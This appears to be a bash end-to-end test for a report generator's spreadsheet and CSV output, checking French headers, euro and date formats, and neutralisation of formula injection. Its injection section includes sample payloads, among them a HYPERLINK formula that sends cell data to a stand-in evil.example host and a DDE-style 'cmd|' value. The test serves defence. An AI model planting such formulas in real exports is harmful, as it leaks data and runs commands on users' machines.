#!/bin/bash
# spreadsheet.sh: report.xlsx beside report.csv (typed cells, euro format,
# dates as dates, French headers, frozen header, autofilter, widths; the
# same bytes twice), and report.csv neutralising formulas in names.
. tests/e2e/lib.sh

C=input/call-ess-2018-2020.xml
run_status 1 "$ESSDOCS" report input/round-2019-1.xml -o "$T_TMP/o" \
    --date 2026-11-26 -q
X=$T_TMP/o/2019-1/report.xlsx
check "report.xlsx is written" test -s "$X"
check "no temporary file left" \
    test -z "$(find "$T_TMP/o" -name '.*tmp*')"

# Read the workbook's XML (an .xlsx is a zip) into facts to check.
python3 - "$X" >"$T_TMP/facts" 2>&1 <<'EOF'
import sys, zipfile, re
z = zipfile.ZipFile(sys.argv[1])
sheet = z.read('xl/worksheets/sheet1.xml').decode()
styles = z.read('xl/styles.xml').decode()
wb = z.read('xl/workbook.xml').decode()
fmts = dict(re.findall(r'<numFmt numFmtId="(\d+)" formatCode="([^"]*)"', styles))
xfs = re.search(r'<cellXfs[^>]*>(.*?)</cellXfs>', styles, re.S).group(1)
xf = re.findall(r'<xf [^>]*numFmtId="(\d+)"', xfs)
def cell(ref):
    m = re.search(r'<c r="%s"( s="(\d+)")?( t="(\w+)")?>(.*?)</c>' % ref, sheet)
    if not m: return None
    s, t, body = m.group(2), m.group(4), m.group(5)
    fmt = fmts.get(xf[int(s)], '') if s else ''
    v = re.search(r'<v>(.*?)</v>|<t[^>]*>(.*?)</t>', body)
    val = v.group(1) if v.group(1) is not None else v.group(2)
    return (t or 'n', val, fmt)
print('sheet', re.search(r'<sheet name="([^"]*)"', wb).group(1))
for ref in ['A1','B1','E1','F1','G1','I1','K1','L1','N1','O1','P1','A2','E2','F2','G2','I2','J2','K2','F3']:
    print(ref, '|'.join(cell(ref) or ('none',)))
print('pane', bool(re.search(r'<pane ySplit="1" topLeftCell="A2" activePane="bottomLeft" state="frozen"/>', sheet)))
print('filter', re.search(r'<autoFilter ref="([^"]*)"', sheet).group(1))
print('widths', len(re.findall(r'customWidth="1"', sheet)))
print('formulas', len(re.findall(r'<f>', sheet)))
EOF
check "the workbook reads" test $? -eq 0
has "sheet named after the round" "$T_TMP/facts" '^sheet Session 2019-1$'
has "French header: N° dossier" "$T_TMP/facts" '^A1 inlineStr\|N° dossier\|$'
has "French header: Date de dépôt" "$T_TMP/facts" '^E1 inlineStr\|Date de dépôt\|$'
has "French header: Montant demandé" "$T_TMP/facts" '^F1 inlineStr\|Montant demandé\|$'
has "French header: Montant accordé" "$T_TMP/facts" '^K1 inlineStr\|Montant accordé\|$'
has "the id is text" "$T_TMP/facts" '^A2 inlineStr\|2019-0001\|$'
has "the received date is a date (Excel serial, dd/mm/yyyy)" "$T_TMP/facts" \
    '^E2 n\|43479\|dd/mm/yyyy$'
has "the request is a number in euros" "$T_TMP/facts" '^F2 n\|15000\|#,##0.00.*€'
has "another request, a number" "$T_TMP/facts" '^F3 n\|12000\|'
has "the verdict in French" "$T_TMP/facts" '^G2 inlineStr\|éligible\|$'
has "the decision in French" "$T_TMP/facts" '^I2 inlineStr\|Accordée\|$'
has "the decision's date is a date" "$T_TMP/facts" '^J2 n\|43539\|dd/mm/yyyy$'
has "the granted amount is a number in euros" "$T_TMP/facts" '^K2 n\|15000\|#,##0.00.*€'
has "header row frozen" "$T_TMP/facts" '^pane True$'
has "autofilter over the header and every row" "$T_TMP/facts" '^filter A1:P24$'
has "every column has its width" "$T_TMP/facts" '^widths 16$'
# One column per document kind of templates/kinds.xml (its label=), then the error.
has "a kind's column: the receipt" "$T_TMP/facts" '^L1 inlineStr\|Accusé de réception\|$'
has "a kind's column: the notification" "$T_TMP/facts" '^O1 inlineStr\|Notification\|$'
has "the error column last" "$T_TMP/facts" '^P1 inlineStr\|Erreur\|$'

run_status 1 "$ESSDOCS" report input/round-2019-1.xml -o "$T_TMP/o2" \
    --date 2026-11-26 -q
check "the same round gives the same report.xlsx" \
    cmp -s "$X" "$T_TMP/o2/2019-1/report.xlsx"

# --- Formulas in names stay inert ---------------------------------------
run_status 0 "$ESSDOCS" report tests/data/round/injection.xml --call "$C" \
    -o "$T_TMP/inj" --date 2026-11-26
CSV=$T_TMP/inj/2019-1/report.csv
has "= gets a leading quote (and stays RFC 4180)" "$CSV" \
    '^2019-0001,"'"'"'=HYPERLINK\(""http://evil'
has "+ gets a leading quote" "$CSV" "^2019-0002,'\+33 cmd\|"
has "- gets a leading quote" "$CSV" "^2019-0003,'-2\+3,"
has "@ gets a leading quote" "$CSV" "^2019-0004,'@SUM"
has "other names are untouched" "$CSV" '^2019-0005,"Association, « Les Amis »",'
hasnt "no cell starts with a formula character" "$CSV" '(^|,)"?[=+@-]'
has "the contract's header is unchanged" "$CSV" \
    '^id,applicant,commune,aid,requested,verdict,reasons,decision,granted,letter,agreement,error'
python3 - "$T_TMP/inj/2019-1/report.xlsx" >"$T_TMP/inj.facts" <<'EOF'
import sys, zipfile, re
s = zipfile.ZipFile(sys.argv[1]).read('xl/worksheets/sheet1.xml').decode()
print('formulas', len(re.findall(r'<f>', s)))
print('B2', re.search(r'<c r="B2"[^>]*t="inlineStr"><is><t>([^<]*)</t>', s).group(1))
EOF
has "report.xlsx holds no formula" "$T_TMP/inj.facts" '^formulas 0$'
has "a name in report.xlsx is a text cell, as written" "$T_TMP/inj.facts" \
    '^B2 =HYPERLINK\("http://evil.example/\?x="&amp;A1'

done_testing
